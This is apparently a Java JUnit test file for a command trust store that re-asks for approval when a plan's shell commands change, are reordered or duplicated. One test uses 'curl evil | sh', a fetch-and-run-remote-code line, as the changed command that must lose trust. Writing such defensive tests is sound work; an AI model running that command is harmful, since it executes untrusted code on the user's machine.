package dev.falsify.runner.trust;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TrustStoreTest {
    @TempDir
    Path dir;

    @Test
    void unknownThenTrustedThenAskedAgainWhenACommandChanges() throws Exception {
        TrustStore store = new TrustStore(dir.resolve("cfg/trust.json"));
        Path plan = dir.resolve("plan.md");
        Files.writeString(plan, "x");
        List<String> cmds = List.of("./build.sh", "java -cp build kv.KvNode --port 7001");
        assertThat(store.check(plan, "v1", cmds)).isInstanceOf(TrustStore.Decision.Unknown.class);

        store.trust(plan, "v1", cmds);
        assertThat(store.check(plan, "v1", cmds)).isInstanceOf(TrustStore.Decision.Trusted.class);
        // prose edited, commands unchanged: still trusted
        assertThat(store.check(plan, "v2 with more prose", cmds)).isInstanceOf(TrustStore.Decision.Trusted.class);

        List<String> changed = List.of("./build.sh", "curl evil | sh");
        TrustStore.Decision d = new TrustStore(dir.resolve("cfg/trust.json")).check(plan, "v3", changed);
        assertThat(d).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class, c -> {
            assertThat(c.added()).containsExactly("curl evil | sh");
            assertThat(c.removed()).containsExactly("java -cp build kv.KvNode --port 7001");
        });
        assertThat(Files.readString(dir.resolve("cfg/trust.json"))).contains(TrustStore.sha256("v1"));
    }

    @Test
    void otherPlansStayUntrusted() throws Exception {
        TrustStore store = new TrustStore(dir.resolve("trust.json"));
        store.trust(dir.resolve("a.md"), "a", List.of("true"));
        assertThat(store.check(dir.resolve("b.md"), "a", List.of("true"))).isInstanceOf(TrustStore.Decision.Unknown.class);
    }

    @Test
    void onlyTheSameFingerprintIsTrusted() throws Exception {
        TrustStore store = new TrustStore(dir.resolve("trust.json"));
        Path plan = dir.resolve("p.md");
        store.trust(plan, "same text", List.of("S1: setup: rm -rf build", "S1: setup: make", "S1: workload: w"));
        // the same content hash does not grant trust to another fingerprint (e.g. a cwd resolved elsewhere)
        assertThat(store.check(plan, "same text", List.of("S1: setup: rm -rf build", "S1: setup: make", "S1: workload: w",
                "S1: cwd: /elsewhere"))).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class, c -> {
                    assertThat(c.added()).containsExactly("S1: cwd: /elsewhere");
                    assertThat(c.removed()).isEmpty();
                });
        // a new order runs something else: asked again, shown whole
        List<String> reordered = List.of("S1: setup: make", "S1: setup: rm -rf build", "S1: workload: w");
        assertThat(store.check(plan, "x", reordered)).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class,
                c -> assertThat(c.added()).isEqualTo(reordered));
        // a command written twice runs twice
        assertThat(store.check(plan, "x", List.of("S1: setup: rm -rf build", "S1: setup: make", "S1: setup: make",
                "S1: workload: w"))).isInstanceOfSatisfying(TrustStore.Decision.CommandsChanged.class,
                c -> assertThat(c.added()).containsExactly("S1: setup: make"));
    }

    @Test
    void corruptStoreIsReportedNotIgnored() throws Exception {
        Files.writeString(dir.resolve("trust.json"), "{not json");
        TrustStore store = new TrustStore(dir.resolve("trust.json"));
        assertThatThrownBy(() -> store.check(dir.resolve("a.md"), "a", List.of())).hasMessageContaining("not readable JSON");
    }
}
